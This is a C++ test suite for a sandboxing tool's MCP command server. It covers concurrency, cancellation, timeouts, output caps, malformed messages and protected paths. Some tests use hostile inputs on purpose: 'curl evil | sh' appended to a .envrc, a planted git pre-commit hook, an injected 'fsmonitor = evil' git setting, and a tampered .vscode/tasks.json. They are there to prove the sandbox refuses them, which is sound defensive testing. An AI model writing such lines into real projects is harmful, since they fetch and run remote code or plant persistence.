// `cordon mcp` driven over raw JSON-RPC, as a client (or a hostile one) would: concurrency,
// cancellation of a whole tree, timeouts that only narrow, output caps, environment
// narrowing, malformed and oversized messages, and shutdown when stdin closes. The
// official SDK client is exercised separately by tests/mcp/run.sh.
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <sys/wait.h>
#include <unistd.h>

#include <chrono>
#include <cstdio>
#include <map>
#include <nlohmann/json.hpp>
#include <set>
#include <thread>
#include <utility>

#include "e2e/harness.hpp"

using namespace cordon_test;
using Clock = std::chrono::steady_clock;

namespace {

// One `cordon mcp` process with its stdin and stdout as pipes.
class McpServer {
 public:
  // `wrapper` runs first, e.g. the no_userns helper.
  explicit McpServer(const std::string& ws, std::vector<std::string> opts = {},
                     std::vector<std::string> wrapper = {}) {
    int in[2], out[2];
    if (::pipe2(in, O_CLOEXEC) != 0 || ::pipe2(out, O_CLOEXEC) != 0) return;
    std::vector<std::string> argv = wrapper;
    argv.insert(argv.end(), {cordon_binary(), "mcp", "--no-config", "--workspace", ws});
    argv.insert(argv.end(), opts.begin(), opts.end());
    pid_ = ::fork();
    if (pid_ == 0) {
      ::dup2(in[0], 0);
      ::dup2(out[1], 1);
      std::vector<char*> a;
      for (auto& s : argv) a.push_back(s.data());
      a.push_back(nullptr);
      ::execv(a[0], a.data());
      ::_exit(121);
    }
    ::close(in[0]);
    ::close(out[1]);
    in_ = in[1];
    out_ = out[0];
  }
  ~McpServer() {
    close_stdin();
    if (pid_ > 0) {
      ::kill(pid_, SIGKILL);
      ::waitpid(pid_, nullptr, 0);
    }
    if (out_ >= 0) ::close(out_);
  }
  void send(const std::string& line) {
    std::string l = line + "\n";
    size_t off = 0;
    while (off < l.size()) {
      ssize_t n = ::write(in_, l.data() + off, l.size() - off);
      if (n <= 0) return;
      off += static_cast<size_t>(n);
    }
  }
  void call(int id, const nlohmann::json& arguments) {
    send(nlohmann::json{{"jsonrpc", "2.0"},
                        {"id", id},
                        {"method", "tools/call"},
                        {"params", {{"name", "run_command"}, {"arguments", arguments}}}}
             .dump());
  }
  // The next message, or null after `timeout`.
  nlohmann::json next(std::chrono::milliseconds timeout = std::chrono::seconds(30)) {
    auto deadline = Clock::now() + timeout;
    for (;;) {
      auto nl = buf_.find('\n');
      if (nl != std::string::npos) {
        std::string line = buf_.substr(0, nl);
        buf_.erase(0, nl + 1);
        return nlohmann::json::parse(line, nullptr, false);
      }
      auto left = std::chrono::duration_cast<std::chrono::milliseconds>(deadline - Clock::now()).count();
      if (left <= 0) return nullptr;
      pollfd p{out_, POLLIN, 0};
      if (::poll(&p, 1, static_cast<int>(left)) <= 0) continue;
      char b[65536];
      ssize_t n = ::read(out_, b, sizeof b);
      if (n <= 0) return nullptr;
      buf_.append(b, static_cast<size_t>(n));
    }
  }
  // Waits for the response to `id`, keeping others for later.
  nlohmann::json response(int id, std::chrono::milliseconds timeout = std::chrono::seconds(30)) {
    if (auto it = held_.find(id); it != held_.end()) {
      auto r = it->second;
      held_.erase(it);
      return r;
    }
    auto deadline = Clock::now() + timeout;
    while (Clock::now() < deadline) {
      auto m = next(std::chrono::duration_cast<std::chrono::milliseconds>(deadline - Clock::now()));
      if (m.is_null()) break;
      if (m.contains("id") && m["id"] == id) return m;
      if (m.contains("id") && m["id"].is_number_integer()) held_[m["id"].get<int>()] = m;
    }
    return nullptr;
  }
  void signal(int sig) {
    if (pid_ > 0) ::kill(pid_, sig);
  }
  pid_t pid() const { return pid_; }
  void close_stdin() {
    if (in_ >= 0) ::close(in_);
    in_ = -1;
  }
  // Exit code once the server ends, or -1 after `timeout`.
  int wait_exit(std::chrono::milliseconds timeout) {
    auto deadline = Clock::now() + timeout;
    while (Clock::now() < deadline) {
      int status = 0;
      if (::waitpid(pid_, &status, WNOHANG) == pid_) {
        pid_ = -1;
        return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
      }
      std::this_thread::sleep_for(std::chrono::milliseconds(20));
    }
    return -1;
  }

 private:
  pid_t pid_ = -1;
  int in_ = -1, out_ = -1;
  std::string buf_;
  std::map<int, nlohmann::json> held_;
};

// Is any process on the host running with `marker` in its command line?
bool host_runs(const std::string& marker) {
  return any_process([&](const std::string& cmd) { return cmd.find(marker) != std::string::npos; });
}

bool eventually(const std::function<bool()>& f, std::chrono::milliseconds within) {
  auto deadline = Clock::now() + within;
  while (Clock::now() < deadline) {
    if (f()) return true;
    std::this_thread::sleep_for(std::chrono::milliseconds(50));
  }
  return f();
}

const nlohmann::json& structured(const nlohmann::json& r) {
  return r["result"]["structuredContent"];
}

}  // namespace

TEST(McpServer, ConcurrentCallsRunInParallel) {
  TempDir ws;
  McpServer s(ws.path());
  auto start = Clock::now();
  s.call(1, {{"command", "sleep 1; echo one"}});
  s.call(2, {{"command", "sleep 1; echo two"}});
  auto a = s.response(1), b = s.response(2);
  EXPECT_EQ(structured(a)["stdout"], "one\n") << a.dump();
  EXPECT_EQ(structured(b)["stdout"], "two\n") << b.dump();
  EXPECT_LT(Clock::now() - start, std::chrono::milliseconds(1900));
}

TEST(McpServer, CancellationKillsTheWholeTree) {
  TempDir ws;
  McpServer s(ws.path());
  const std::string marker = "4" + std::to_string(::getpid() % 10000) + "3";
  s.call(7, {{"command", "sleep " + marker + " & (sleep " + marker + "1 &) ; sleep " + marker + "2"}});
  ASSERT_TRUE(eventually([&] { return host_runs("sleep " + marker + "1"); }, std::chrono::seconds(10)));
  s.send(R"({"jsonrpc":"2.0","method":"notifications/cancelled","params":{"requestId":7,"reason":"test"}})");
  EXPECT_TRUE(eventually([&] { return !host_runs("sleep " + marker); }, std::chrono::seconds(10)));
  // No response for the cancelled request; the server still answers.
  s.send(R"({"jsonrpc":"2.0","id":8,"method":"ping"})");
  auto m = s.next();
  EXPECT_EQ(m["id"], 8) << m.dump();
}

TEST(McpServer, CancellationKillsTheTreeWithoutUserNamespaces) {
  TempDir ws;
  {
    auto probe =
        run_process({no_userns_binary(), cordon_binary(), "check", "--no-config", "--json"}, ws.path());
    if (contains(probe.out, "\"landlock_abi\": 0"))
      GTEST_SKIP() << "Landlock is unavailable: no Landlock-only mode here";
  }
  McpServer s(ws.path(), {"--best-effort"}, {no_userns_binary()});
  const std::string marker = "6" + std::to_string(::getpid() % 10000) + "1";
  // Ignores SIGTERM, and leaves a process that is no longer its child.
  s.call(3, {{"command",
              "trap '' TERM; sleep " + marker + " & (sleep " + marker + "1 &) ; sleep " + marker + "2"}});
  ASSERT_TRUE(eventually([&] { return host_runs("sleep " + marker + "1"); }, std::chrono::seconds(10)));
  s.send(R"({"jsonrpc":"2.0","method":"notifications/cancelled","params":{"requestId":3}})");
  EXPECT_TRUE(eventually([&] { return !host_runs("sleep " + marker); }, std::chrono::seconds(10)));
  s.call(4, {{"command", "echo after"}});
  EXPECT_EQ(structured(s.response(4))["stdout"], "after\n");
}

// A call is answered once its worker's result is out, without waiting for the worker's own
// exit (runner.cpp): by then nothing the command started may run any more. Checked at
// once when the answer arrives, not eventually: leftovers that ignore SIGTERM, one no
// longer the command's child, one in a session of its own.
void expect_nothing_left_when_answered(McpServer& s, const std::string& marker) {
  for (int id = 1; id <= 3; ++id) {
    const std::string m = marker + std::to_string(id);
    s.call(id, {{"command", "trap '' TERM; sleep " + m + "1 & (sleep " + m + "2 &); setsid sleep " + m +
                                "3 & echo started"}});
    const auto r = s.response(id);
    EXPECT_FALSE(host_runs("sleep " + m)) << "a process of call " << id << " outlived its answer";
    EXPECT_EQ(structured(r)["stdout"], "started\n") << r.dump();
    EXPECT_EQ(structured(r)["exit_code"], 0) << r.dump();
  }
}

TEST(McpServer, NothingACallStartedRunsWhenItIsAnswered) {
  TempDir ws;
  McpServer s(ws.path());
  expect_nothing_left_when_answered(s, "5" + std::to_string(::getpid() % 10000) + "7");
}

TEST(McpServer, NothingACallStartedRunsWhenItIsAnsweredWithoutUserNamespaces) {
  TempDir ws;
  {
    auto probe =
        run_process({no_userns_binary(), cordon_binary(), "check", "--no-config", "--json"}, ws.path());
    if (contains(probe.out, "\"landlock_abi\": 0"))
      GTEST_SKIP() << "Landlock is unavailable: no Landlock-only mode here";
  }
  McpServer s(ws.path(), {"--best-effort"}, {no_userns_binary()});
  expect_nothing_left_when_answered(s, "7" + std::to_string(::getpid() % 10000) + "5");
}

// The parent pid of `pid`, from /proc (0 when unknown).
pid_t parent_of(pid_t pid) {
  const std::string stat = read_file("/proc/" + std::to_string(pid) + "/stat");
  const auto paren = stat.rfind(')');
  int ppid = 0;
  char state = 0;
  if (paren == std::string::npos || std::sscanf(stat.c_str() + paren + 1, " %c %d", &state, &ppid) != 2)
    return 0;
  return static_cast<pid_t>(ppid);
}

// Ready workers of `server`: sandbox inits waiting for their command (`cordon-init
// __cordon-init`, or `cordon __cordon-init` without the separate image, whose parent is a
// `cordon run` worker the server started).
int warm_stubs(pid_t server) {
  std::error_code ec;
  int n = 0;
  for (const auto& e : fs::directory_iterator("/proc", ec)) {
    const std::string name = e.path().filename().string();
    if (name.find_first_not_of("0123456789") != std::string::npos) continue;
    std::string cmd = read_file(e.path().string() + "/cmdline");
    for (auto& c : cmd)
      if (c == '\0') c = ' ';
    if (cmd.rfind("cordon-init __cordon-init ", 0) != 0 && cmd.rfind("cordon __cordon-init ", 0) != 0)
      continue;
    if (parent_of(parent_of(static_cast<pid_t>(std::stol(name)))) == server) ++n;
  }
  return n;
}

TEST(McpServer, KeepsAPoolOfWarmWorkersAndRefillsIt) {
  TempDir ws;
  ::setenv("CORDON_MCP_WORKERS", "3", 1);
  McpServer s(ws.path());
  ::unsetenv("CORDON_MCP_WORKERS");
  const pid_t server = s.pid();
  ASSERT_TRUE(eventually([&] { return warm_stubs(server) == 3; }, std::chrono::seconds(20)))
      << warm_stubs(server);
  // Two concurrent calls each take a warm worker; the pool is topped up after the responses.
  s.call(1, {{"command", "sleep 0.5; echo one"}});
  s.call(2, {{"command", "sleep 0.5; echo two"}});
  EXPECT_EQ(structured(s.response(1))["stdout"], "one\n");
  EXPECT_EQ(structured(s.response(2))["stdout"], "two\n");
  EXPECT_TRUE(eventually([&] { return warm_stubs(server) == 3; }, std::chrono::seconds(20)))
      << warm_stubs(server);
  // The pool stays bounded.
  std::this_thread::sleep_for(std::chrono::milliseconds(300));
  EXPECT_EQ(warm_stubs(server), 3);
}

TEST(McpServer, CancellingOneConcurrentCallLeavesTheOther) {
  TempDir ws;
  McpServer s(ws.path());
  const std::string marker = "5" + std::to_string(::getpid() % 10000) + "7";
  s.call(1, {{"command", "sleep " + marker + " & sleep " + marker + "1"}});
  s.call(2, {{"command", "sleep 1; echo kept"}});
  ASSERT_TRUE(eventually([&] { return host_runs("sleep " + marker + "1"); }, std::chrono::seconds(10)));
  s.send(R"({"jsonrpc":"2.0","method":"notifications/cancelled","params":{"requestId":1}})");
  EXPECT_TRUE(eventually([&] { return !host_runs("sleep " + marker); }, std::chrono::seconds(10)));
  auto r = s.response(2);
  EXPECT_EQ(structured(r)["stdout"], "kept\n") << r.dump();
  EXPECT_EQ(structured(r)["classification"], "ok");
}

// Per-run cgroups under `parent` (cordon-run-*).
std::set<std::string> run_groups(const std::string& parent) {
  std::set<std::string> out;
  std::error_code ec;
  for (const auto& e : fs::directory_iterator(parent, ec))
    if (e.path().filename().string().rfind("cordon-run-", 0) == 0) out.insert(e.path().string());
  return out;
}

TEST(McpServer, CancelledWorkersLeaveNoCgroupBehind) {
  TempDir ws;
  auto check = run_process({cordon_binary(), "check", "--no-config", "--json"}, ws.path());
  auto c = nlohmann::json::parse(check.out, nullptr, false);
  ASSERT_TRUE(c.is_object()) << check.out;
  const auto& pids = c["detail"]["cgroups"]["pids"];
  if (pids["mechanism"] == "none") GTEST_SKIP() << "no pids cgroup here: " << pids["reason"];
  const std::string parent = pids["parent"];
  std::set<std::string> seen;
  {
    McpServer s(ws.path(), {"--pids", "64"});
    ASSERT_TRUE(eventually([&] { return run_groups(parent).size() >= 2; }, std::chrono::seconds(20)));
    for (const auto& g : run_groups(parent)) seen.insert(g);
    s.call(1, {{"command", "sleep 30"}});
    std::this_thread::sleep_for(std::chrono::milliseconds(500));
    // Killed with SIGKILL, the worker cannot remove its group: the next worker sweeps it.
    s.send(R"({"jsonrpc":"2.0","method":"notifications/cancelled","params":{"requestId":1}})");
    s.call(2, {{"command", "echo after"}});
    auto r = s.response(2);
    EXPECT_EQ(structured(r)["stdout"], "after\n") << r.dump();
    EXPECT_TRUE(structured(r)["limits"]["pids"].contains("cgroup")) << r.dump();
    for (const auto& g : run_groups(parent)) seen.insert(g);
    s.call(3, {{"command", "true"}});
    s.response(3);
    s.close_stdin();
    EXPECT_EQ(s.wait_exit(std::chrono::seconds(20)), 0);
  }
  for (const auto& g : seen) EXPECT_FALSE(exists(g)) << g << " was left behind";
}

TEST(McpServer, TimeoutOnlyNarrows) {
  TempDir ws;
  McpServer s(ws.path(), {"--timeout", "1"});
  auto start = Clock::now();
  s.call(1, {{"command", "sleep 20"}, {"timeout", 600}});
  auto r = s.response(1);
  EXPECT_EQ(structured(r)["classification"], "timed-out") << r.dump();
  EXPECT_EQ(structured(r)["exit_code"], 124);
  EXPECT_LT(Clock::now() - start, std::chrono::seconds(8));
  EXPECT_TRUE(contains(structured(r)["notes"].dump(), "clamped")) << r.dump();
}

TEST(McpServer, OutputIsCappedAndMarked) {
  TempDir ws;
  McpServer s(ws.path(), {"--max-output", "1K"});
  s.call(1, {{"command", "head -c 100000 /dev/zero | tr '\\000' a; echo err >&2"}});
  auto r = s.response(1);
  const auto& sc = structured(r);
  EXPECT_EQ(sc["truncated"]["stdout"], true) << r.dump().substr(0, 500);
  EXPECT_EQ(sc["truncated"]["stderr"], false);
  EXPECT_LT(sc["stdout"].get<std::string>().size(), 1200u);
  EXPECT_TRUE(contains(sc["stdout"], "[cordon: stdout truncated at 1024 bytes]"));
  EXPECT_EQ(sc["stderr"], "err\n");
  EXPECT_EQ(sc["classification"], "ok");
}

// tty: true runs the call on a pty of its own (stdout and stderr as a terminal shows
// them); without it, pipes as before.
TEST(McpServer, TtyRunsTheCallOnAPtyOfTheAskedSize) {
  TempDir ws;
  McpServer s(ws.path());
  // stdin stays the call's text: the terminal is reached through stdout and /dev/tty.
  s.call(1, {{"command",
              "readlink /proc/self/fd/1; stty size </dev/tty; [ -t 1 ] && echo out-tty; read x; echo got-$x"},
             {"tty", true},
             {"rows", 30},
             {"columns", 90},
             {"stdin", "abc\n"}});
  auto r = s.response(1);
  const auto& sc = structured(r);
  EXPECT_EQ(sc["exit_code"], 0) << r.dump();
  EXPECT_TRUE(contains(sc["stdout"], "/dev/pts/0\r\n")) << r.dump();
  EXPECT_TRUE(contains(sc["stdout"], "30 90")) << r.dump();
  EXPECT_TRUE(contains(sc["stdout"], "out-tty")) << r.dump();
  EXPECT_TRUE(contains(sc["stdout"], "got-abc")) << r.dump();
  s.call(2, {{"command", "tty; echo plain"}});
  auto plain = s.response(2);
  EXPECT_TRUE(contains(structured(plain)["stdout"], "not a tty\nplain\n")) << plain.dump();
}

// The server's own `tty` (flag or config key) is for cordon run: a call without `tty`
// still gets pipes, as an agent expects its output.
TEST(McpServer, TheServersTtyOptionLeavesCallsOnPipes) {
  TempDir ws;
  McpServer s(ws.path(), {"--tty", "always"});
  s.call(1, {{"command", "tty; [ -t 1 ] || echo out-pipe"}});
  auto r = s.response(1);
  EXPECT_EQ(structured(r)["exit_code"], 0) << r.dump();
  EXPECT_TRUE(contains(structured(r)["stdout"], "not a tty\nout-pipe\n")) << r.dump();
}

TEST(McpServer, ArgumentsNarrowThePolicy) {
  TempDir ws, outside;
  fs::create_directories(ws / "sub");
  McpServer s(ws.path());
  s.call(1, {{"argv", {"sh", "-c", "echo $FOO; cat; pwd"}},
             {"env", {{"FOO", "bar"}}},
             {"stdin", "in\n"},
             {"cwd", "sub"}});
  auto r = s.response(1);
  EXPECT_EQ(structured(r)["stdout"], "bar\nin\n" + (ws / "sub") + "\n") << r.dump();
  s.call(2, {{"command", "true"}, {"env", {{"GITHUB_TOKEN", "x"}}}});
  EXPECT_EQ(s.response(2)["result"]["isError"], true);
  s.call(3, {{"command", "true"}, {"cwd", outside.path()}});
  EXPECT_EQ(s.response(3)["result"]["isError"], true);
  s.call(4, {{"command", "echo x > " + (outside / "f")}});
  auto w = s.response(4);
  EXPECT_NE(structured(w)["exit_code"], 0);
  EXPECT_FALSE(exists(outside / "f"));
}

TEST(McpServer, HostileMessagesGetErrorsAndTheServerCarriesOn) {
  TempDir ws;
  McpServer s(ws.path());
  s.send(std::string(5u << 20, 'x'));
  EXPECT_EQ(s.next()["error"]["code"], -32600);
  s.send(std::string(10000, '[') + std::string(10000, ']'));
  EXPECT_EQ(s.next()["error"]["code"], -32600);
  s.send("{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"ping\",\"x\":\"\xff\"}");
  EXPECT_EQ(s.next()["error"]["code"], -32700);
  s.send(R"({"jsonrpc":"2.0","id":2,"method":"tools/call","params":[]})");
  EXPECT_EQ(s.next()["error"]["code"], -32602);
  s.send(R"({"jsonrpc":"2.0","id":3,"method":"initialize","params":{"protocolVersion":"1999-01-01"}})");
  EXPECT_EQ(s.next()["result"]["protocolVersion"], "2025-11-25");
  s.send(R"({"jsonrpc":"2.0","id":4,"method":"initialize","params":{"protocolVersion":"2025-06-18"}})");
  EXPECT_EQ(s.next()["result"]["protocolVersion"], "2025-06-18");
  s.send(R"({"jsonrpc":"2.0","id":5,"method":"ping"})");
  EXPECT_EQ(s.next()["id"], 5);
}

// The README's piped example: end of input is the end of requests, not of answers.
TEST(McpServer, PipedRequestsGetTheirResponsesAfterEndOfInput) {
  TempDir ws;
  const std::string input =
      R"({"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-11-25","capabilities":{},"clientInfo":{"name":"sh","version":"1"}}})"
      "\n"
      R"({"jsonrpc":"2.0","method":"notifications/initialized"})"
      "\n"
      R"({"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"run_command","arguments":{"command":"sleep 1; echo hello > out.txt; cat out.txt"}}})"
      "\n";
  auto start = Clock::now();
  auto r = run_process({cordon_binary(), "mcp", "--no-config", "--workspace", ws.path()}, ws.path(), input);
  EXPECT_EQ(r.code, 0) << r.err;
  EXPECT_GE(Clock::now() - start, std::chrono::seconds(1));
  std::vector<nlohmann::json> replies;
  std::string line;
  for (char c : r.out) {
    if (c != '\n') {
      line += c;
      continue;
    }
    replies.push_back(nlohmann::json::parse(line, nullptr, false));
    line.clear();
  }
  ASSERT_EQ(replies.size(), 2u) << r.out;
  EXPECT_EQ(replies[0]["id"], 1) << r.out;
  EXPECT_EQ(replies[0]["result"]["serverInfo"]["name"], "cordon") << r.out;
  EXPECT_EQ(replies[1]["id"], 2) << r.out;
  EXPECT_EQ(structured(replies[1])["stdout"], "hello\n") << r.out;
  EXPECT_EQ(structured(replies[1])["classification"], "ok") << r.out;
  EXPECT_EQ(read_file(ws / "out.txt"), "hello\n");
}

TEST(McpServer, EndOfInputWaitsForEveryCallWithinItsTimeout) {
  TempDir ws;
  McpServer s(ws.path());
  const std::string marker = "7" + std::to_string(::getpid() % 10000) + "3";
  s.call(1, {{"command", "sleep " + marker}, {"timeout", 2}});
  s.call(2, {{"command", "sleep 0.5; echo quick"}});
  ASSERT_TRUE(eventually([&] { return host_runs("sleep " + marker); }, std::chrono::seconds(10)));
  auto start = Clock::now();
  s.close_stdin();
  auto quick = s.response(2, std::chrono::seconds(10));
  EXPECT_EQ(structured(quick)["stdout"], "quick\n") << quick.dump();
  auto slow = s.response(1, std::chrono::seconds(10));
  EXPECT_EQ(structured(slow)["classification"], "timed-out") << slow.dump();
  EXPECT_EQ(s.wait_exit(std::chrono::seconds(10)), 0);
  EXPECT_LT(Clock::now() - start, std::chrono::seconds(8));
  EXPECT_FALSE(host_runs("sleep " + marker));
}

TEST(McpServer, SigtermAfterEndOfInputEndsTheServerAndItsCommands) {
  TempDir ws;
  McpServer s(ws.path());
  const std::string marker = "5" + std::to_string(::getpid() % 10000) + "9";
  s.call(1, {{"command", "sleep " + marker}});
  ASSERT_TRUE(eventually([&] { return host_runs("sleep " + marker); }, std::chrono::seconds(10)));
  s.close_stdin();
  // No timeout: the call goes on, and the server with it, until the client insists.
  EXPECT_EQ(s.wait_exit(std::chrono::milliseconds(1500)), -1);
  EXPECT_TRUE(host_runs("sleep " + marker));
  s.signal(SIGTERM);
  EXPECT_EQ(s.wait_exit(std::chrono::seconds(10)), 128 + SIGTERM);
  EXPECT_TRUE(eventually([&] { return !host_runs("sleep " + marker); }, std::chrono::seconds(5)));
  // The prestarted worker ended like a normal run: its placeholders were cleaned up.
  EXPECT_TRUE(eventually([&] { return !exists(ws / ".cordon"); }, std::chrono::seconds(5)));
}

TEST(McpServer, ProgressTokenGetsProgressWithOutputBytes) {
  TempDir ws;
  McpServer s(ws.path());
  s.send(
      R"({"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"run_command","_meta":{"progressToken":"tok-1"},"arguments":{"command":"echo abc; sleep 2.6; echo de"}}})");
  s.call(2, {{"command", "sleep 2.2"}});  // no token: no progress
  std::vector<nlohmann::json> progress;
  nlohmann::json second;
  bool answered = false;
  for (int i = 0; i < 20 && !answered; ++i) {
    auto m = s.next(std::chrono::seconds(10));
    ASSERT_FALSE(m.is_null()) << "no response";
    if (m.value("method", "") == "notifications/progress")
      progress.push_back(m["params"]);
    else if (m.contains("id") && m["id"] == 1)
      answered = true;
    else if (m.contains("id") && m["id"] == 2)
      second = m;
  }
  ASSERT_TRUE(answered);
  if (second.is_null()) second = s.response(2);
  EXPECT_EQ(structured(second)["classification"], "ok") << second.dump();
  ASSERT_GE(progress.size(), 2u);
  double last = 0;
  for (const auto& p : progress) {
    EXPECT_EQ(p["progressToken"], "tok-1") << p.dump();
    EXPECT_GT(p["progress"].get<double>(), last) << p.dump();
    last = p["progress"].get<double>();
  }
  // The first echo's "abc\n" was counted while the command slept.
  bool counted = false;
  for (const auto& p : progress) counted = counted || contains(p["message"], "4 bytes of output");
  EXPECT_TRUE(counted) << nlohmann::json(progress).dump();
  // Nothing more for call 1 after its response.
  s.send(R"({"jsonrpc":"2.0","id":3,"method":"ping"})");
  EXPECT_EQ(s.next()["id"], 3);
}

// A warm worker's sandbox was planned before its call: a `git init` made outside between
// two calls must be protected in the second (the worker whose plan predates it is not used).
TEST(McpServer, GitInitBetweenCallsIsProtectedInTheNextCall) {
  TempDir ws;
  McpServer s(ws.path());
  s.call(1, {{"command", "echo first > first.txt"}});
  ASSERT_EQ(structured(s.response(1))["exit_code"], 0);
  const pid_t server = s.pid();
  // The pool is topped up after the response, planned on a workspace with no .git.
  ASSERT_TRUE(eventually([&] { return warm_stubs(server) >= 1; }, std::chrono::seconds(20)));
  std::this_thread::sleep_for(std::chrono::milliseconds(500));
  ASSERT_EQ(run_process({"git", "init", "-q"}, ws.path()).code, 0);
  const std::string config_before = read_file(ws / ".git/config");
  s.call(2, {{"command",
              "printf '#!/bin/sh\\ntouch \"$PWD/HOOK-RAN\"\\n' > .git/hooks/pre-commit; "
              "chmod +x .git/hooks/pre-commit; echo '[core]' >> .git/config; echo second > second.txt"}});
  auto r = structured(s.response(2));
  EXPECT_EQ(read_file(ws / "second.txt"), "second\n") << r.dump();  // the allowed half
  EXPECT_FALSE(exists(ws / ".git/hooks/pre-commit")) << r.dump();
  EXPECT_EQ(read_file(ws / ".git/config"), config_before);
}

// The server checks per call that a warm worker's plan is still the plan of the moment by
// asking again what its last plan asked of the disk (platform::PlanDigestMemo): every
// lstat, also those answered "absent", every listing, every file read. Each test below
// makes its change from outside after two calls on an unchanged disk (the second checked
// that way) and while a worker planned before the change waits; the next call must run on
// a plan that includes the change, checked from outside.
class ChangeBetweenCalls {
 public:
  explicit ChangeBetweenCalls(const std::string& ws) : s(ws) {
    for (int id = 1; id <= 2; ++id) {
      // Writes nothing: the second call's check finds every answer as the first one's plan had it.
      s.call(id, {{"command", "echo " + std::to_string(id)}});
      const auto r = s.response(id);
      EXPECT_EQ(structured(r)["stdout"], std::to_string(id) + "\n") << r.dump();
      EXPECT_TRUE(eventually([&] { return warm_stubs(s.pid()) >= kDefaultWarm; }, std::chrono::seconds(20)));
    }
    // The pool's workers have planned (their sandboxes exist) before the change.
    std::this_thread::sleep_for(std::chrono::milliseconds(300));
  }
  nlohmann::json call(const std::string& command) {
    s.call(3, {{"command", command}});
    return structured(s.response(3));
  }
  static constexpr int kDefaultWarm = 2;
  McpServer s;
};

// Writes below a .git at any depth are refused at run time too (the supervisor's rule for
// git directories), whatever the plan: this one proves containment, AHooksPathSet... below
// is the one that only a plan made after the change passes.
TEST(McpServer, ANestedRepositoryMadeBetweenCallsIsProtectedInTheNext) {
  TempDir ws;
  ASSERT_EQ(run_process({"git", "init", "-q"}, ws.path()).code, 0);
  ASSERT_TRUE(fs::create_directories(ws / "sub/inner"));
  ChangeBetweenCalls calls(ws.path());
  ASSERT_EQ(run_process({"git", "init", "-q"}, ws / "sub/inner").code, 0);
  const std::string config_before = read_file(ws / "sub/inner/.git/config");
  auto r = calls.call(
      "printf '#!/bin/sh\\nexit 0\\n' > sub/inner/.git/hooks/pre-commit; "
      "printf '[core]\\n\\tfsmonitor = evil\\n' | "
      "dd of=sub/inner/.git/config conv=nocreat,notrunc oflag=append status=none; "
      "echo ok > sub/inner/ok.txt");
  EXPECT_EQ(read_file(ws / "sub/inner/ok.txt"), "ok\n") << r.dump();  // the allowed half
  EXPECT_FALSE(exists(ws / "sub/inner/.git/hooks/pre-commit")) << r.dump();
  EXPECT_EQ(read_file(ws / "sub/inner/.git/config"), config_before) << r.dump();
}

TEST(McpServer, AProtectedNameMadeBetweenCallsIsProtectedInTheNext) {
  TempDir ws;
  ASSERT_TRUE(fs::create_directories(ws / "sub/deeper"));
  ChangeBetweenCalls calls(ws.path());
  write_file(ws / "sub/deeper/.vscode/settings.json", "{}\n");
  // Also refused at run time by the supervisor (a protected name at depth), whatever the plan.
  auto r = calls.call(
      "echo '{}' > sub/deeper/.vscode/tasks.json; "
      "echo '{\"evil\": 1}' | dd of=sub/deeper/.vscode/settings.json conv=nocreat status=none; "
      "echo ok > sub/deeper/ok.txt");
  EXPECT_EQ(read_file(ws / "sub/deeper/ok.txt"), "ok\n") << r.dump();
  EXPECT_FALSE(exists(ws / "sub/deeper/.vscode/tasks.json")) << r.dump();
  EXPECT_EQ(read_file(ws / "sub/deeper/.vscode/settings.json"), "{}\n") << r.dump();
}

TEST(McpServer, AHooksPathSetBetweenCallsIsProtectedInTheNext) {
  TempDir ws;
  ASSERT_EQ(run_process({"git", "init", "-q"}, ws.path()).code, 0);
  write_file(ws / "tools/hooks/README", "hooks\n");
  ChangeBetweenCalls calls(ws.path());
  ASSERT_EQ(run_process({"git", "config", "core.hooksPath", "tools/hooks"}, ws.path()).code, 0);
  auto r = calls.call("printf '#!/bin/sh\\nexit 0\\n' > tools/hooks/pre-commit; echo ok > tools/ok.txt");
  EXPECT_EQ(read_file(ws / "tools/ok.txt"), "ok\n") << r.dump();
  EXPECT_FALSE(exists(ws / "tools/hooks/pre-commit")) << r.dump();
}

// The per-call check compares a listing by what the plan uses of it (plan/fs_record.hpp:
// ListingUse): ordinary files a call makes or removes, at the top and at depth, keep the
// next call on the recorded plan (counted by the server: CORDON_MCP_PLAN_STATS), while a
// protected name made as a plain file at depth, in a directory listed before, makes it
// plan again and is protected in that call.
namespace {

// The server's counts "<held> held, <planned> planned" of its last plan check.
std::pair<int, int> last_plan_check(const std::string& log) {
  const std::string text = read_file(log);
  const size_t at = text.rfind("plan check: ");
  if (at == std::string::npos) return {-1, -1};
  int held = -1, planned = -1;
  if (std::sscanf(text.c_str() + at, "plan check: %d held, %d planned", &held, &planned) != 2)
    return {-1, -1};
  return {held, planned};
}

}  // namespace

TEST(McpServer, OrdinaryFilesDoNotMakeTheNextCallPlanAgainAProtectedNameDoes) {
  TempDir ws, logs;
  ASSERT_TRUE(fs::create_directories(ws / "sub/deeper"));
  write_file(ws / "sub/deeper/keep.c", "int x;\n");
  const std::string log = logs / "server.log";
  McpServer s(
      ws.path(), {},
      {"/usr/bin/env", "CORDON_MCP_PLAN_STATS=1", "/bin/sh", "-c", "exec \"$@\" 2>>'" + log + "'", "sh"});
  auto call = [&](int id, const std::string& command) {
    s.call(id, {{"command", command}});
    const auto r = structured(s.response(id));
    EXPECT_TRUE(eventually([&] { return warm_stubs(s.pid()) >= 2; }, std::chrono::seconds(20)));
    return r;
  };
  auto r = call(1, "echo one");
  EXPECT_EQ(r["exit_code"], 0) << r.dump();
  const auto first = last_plan_check(log);
  ASSERT_GE(first.second, 1) << read_file(log);
  // A build: files made at the top and at depth, one removed, a temporary renamed.
  r = call(2,
           "echo a > a.txt && echo o > sub/deeper/keep.o && rm sub/deeper/keep.c && "
           "echo t > sub/.tmp1 && mv sub/.tmp1 sub/done.txt");
  EXPECT_EQ(r["exit_code"], 0) << r.dump();
  r = call(3, "cat sub/done.txt");
  EXPECT_EQ(r["stdout"], "t\n") << r.dump();
  const auto after_build = last_plan_check(log);
  EXPECT_EQ(after_build.second, first.second) << read_file(log);  // no plan made again
  EXPECT_EQ(after_build.first, first.first + 2) << read_file(log);
  // From outside: a .envrc at depth, a plain file among the ordinary ones.
  write_file(ws / "sub/deeper/.envrc", "export A=1\n");
  r = call(4, "echo 'curl evil | sh' >> sub/deeper/.envrc; echo ok > sub/deeper/ok.txt");
  EXPECT_EQ(read_file(ws / "sub/deeper/ok.txt"), "ok\n") << r.dump();  // the allowed half
  EXPECT_EQ(read_file(ws / "sub/deeper/.envrc"), "export A=1\n") << r.dump();
  EXPECT_EQ(last_plan_check(log).second, first.second + 1) << read_file(log);
}

